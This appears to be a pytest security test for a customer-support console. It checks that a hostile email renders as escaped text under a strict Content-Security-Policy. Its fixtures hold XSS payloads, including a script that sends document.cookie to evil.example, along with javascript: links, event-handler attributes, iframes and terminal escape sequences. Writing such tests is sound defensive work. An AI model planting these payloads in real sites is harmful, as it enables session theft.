"""Client content is hostile: a message whose subject, display name and body carry <script>,
event handlers, javascript: links, CSS tricks and Rich/Markdown markup renders inert on the
queue and item pages (checked on the parsed HTML), and every page carries the CSP."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from tests.console.console_testkit import ALICE, AUDREY, client, eml, seed, sign_in

SUBJECT = '<script>alert("subject")</script><img src=x onerror=alert(1)> [bold red]rich[/] **md** \u202etxt.exe'
SENDER = '"<svg onload=alert(2)> Eve" <eve@evil.example>'
BODY = (
    "Hello <script>document.location='https://evil.example/?c='+document.cookie</script>\n"
    '<a href="javascript:alert(3)" onclick="alert(4)">click me</a> [click](javascript:alert(5))\n'
    "<style>body{display:none}</style><div style=\"position:fixed;inset:0\">overlay</div>\n"
    "<iframe src=https://evil.example></iframe> refund\n"
    "[link=https://evil.example]rich link[/link] \x1b]8;;https://evil.example\x1b\\osc8\x1b]8;;\x1b\\\n\n"
    "On Mon, 1 Dec 2026, Support wrote:\n> <script>alert('quoted')</script>\n> earlier text\n"
)
HTML_PART = '<html><body><p onclick="alert(6)">Rich <b>html</b></p><script>alert(7)</script><a href="javascript:alert(8)">x</a></body></html>'
DRAFT = 'Dear Eve,\n\n<script>alert("draft")</script> we will refund 500 EUR by Friday <img src=x onerror=alert(9)>.\n\nNorthwind'


class Inspector(HTMLParser):
    """Collects what could execute or restyle: script tags, event-handler attributes,
    javascript: URLs, style elements/attributes, frames and objects."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        names = {k.lower(): (v or "") for k, v in attrs}
        if tag == "script":
            self.scripts.append(names.get("src", ""))
            self._in_script = True
            if not names.get("src", "").startswith("/static/"):
                self.problems.append(f"script without a local src: {attrs}")
        if tag in ("style", "iframe", "object", "embed", "frame", "base", "img", "svg", "link") and not (tag == "link" and names.get("href", "").startswith("/static/")):
            self.problems.append(f"<{tag}> element")
        for k, v in names.items():
            if k.startswith("on"):
                self.problems.append(f"event handler {k}")
            if k == "style":
                self.problems.append("style attribute")
            if k in ("href", "src", "action", "formaction", "xlink:href") and v.strip().lower().replace("\t", "").startswith(("javascript:", "data:", "vbscript:")):
                self.problems.append(f"{k}={v[:30]}")
            if k in ("href", "src", "action") and "evil.example" in v:
                self.problems.append(f"link to the sender's site {k}")

    def handle_data(self, data):
        if self._in_script and data.strip():
            self.problems.append("inline script content")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False


def inspect(html: str) -> Inspector:
    p = Inspector()
    p.feed(html)
    p.close()
    return p


@pytest.fixture
def hostile(console_env):
    settings, app, services = console_env
    raw = eml(SUBJECT, BODY, sender=SENDER, html=HTML_PART)
    it = seed(services.session_factory, settings, subject=SUBJECT, raw=raw, draft_text=DRAFT, categories=("complaint", '<b onmouseover="x">cat</b>'))
    return settings, app, services, it


@pytest.mark.parametrize("who", [ALICE, AUDREY])
def test_hostile_message_renders_inert(hostile, who):
    settings, app, services, it = hostile
    c = sign_in(client(app), who)
    for path in ("/queue", f"/items/{it.item_id}"):
        r = c.get(path)
        assert r.status_code == 200
        csp = r.headers["content-security-policy"]
        assert "script-src 'self'" in csp and "unsafe-inline" not in csp and "frame-ancestors 'none'" in csp
        assert r.headers["x-frame-options"] == "DENY" and r.headers["x-content-type-options"] == "nosniff"
        found = inspect(r.text)
        assert found.problems == [], found.problems
        assert set(found.scripts) == {"/static/htmx.min.js", "/static/console.js"}
    page = c.get(f"/items/{it.item_id}").text
    # shown, as text: escaped, not dropped
    assert "&lt;script&gt;alert(&#34;subject&#34;)&lt;/script&gt;" in page
    assert "&lt;svg onload=alert(2)&gt; Eve" in page
    assert "javascript:alert(3)" in page and "[bold red]rich[/]" in page and "**md**" in page and "[click](javascript:alert(5))" in page
    assert "&lt;script&gt;alert(&#34;draft&#34;)&lt;/script&gt;" in page
    # terminal escapes and bidi overrides are shown, not obeyed
    assert "\x1b" not in page and "\u202e" not in page and "⟨U+001B⟩]8;;" in page
    # the quoted history is collapsed
    assert "<details><summary>Quoted history</summary>" in page
    newest = page.split('id="message-text">')[1].split("</div>")[0]
    assert "earlier text" not in newest
    # the finding is highlighted where it matched
    assert '<mark class="sev-high" title="commitment.refund (high)">refund 500 EUR</mark>' in page


def test_html_only_mail_is_shown_as_text(console_env):
    from email.message import EmailMessage

    settings, app, services = console_env
    m = EmailMessage()
    m["From"] = "Ann <ann@client.example>"
    m["To"] = "support@northwind.example"
    m["Subject"] = "html only"
    m["Message-ID"] = "<h1@client.example>"
    m.set_content(HTML_PART, subtype="html")
    it = seed(services.session_factory, settings, raw=bytes(m))
    page = sign_in(client(app), ALICE).get(f"/items/{it.item_id}").text
    assert inspect(page).problems == []
    shown = page.split('id="message-text">')[1].split("</div>")[0]
    assert "Rich" in shown and "html" in shown and "&lt;p" not in shown and "alert(7)" not in shown


def test_citations_are_listed_with_web_links_only(console_env):
    from storage.models import Draft

    settings, app, services = console_env
    it = seed(services.session_factory, settings)
    with services.session_factory() as s:
        draft = s.query(Draft).filter(Draft.item_id == it.item_id).one()
        draft.grounding = {
            "citations": [
                {"id": "KB-fees#2", "title": "Fees overview", "url": "https://kb.northwind.example/fees"},
                {"id": "KB-x#1", "title": "<b>Bad</b> link", "url": "javascript:alert(1)"},
            ],
            "unknown_citations": ["KB-made-up#9"],
        }
        s.commit()
    page = sign_in(client(app), ALICE).get(f"/items/{it.item_id}").text
    assert '<a href="https://kb.northwind.example/fees" rel="noopener noreferrer" target="_blank">Fees overview</a>' in page
    assert "&lt;b&gt;Bad&lt;/b&gt; link" in page and "javascript:alert(1)" not in page
    assert "Not among the retrieved articles: KB-made-up#9" in page
    assert inspect(page).problems == [], inspect(page).problems
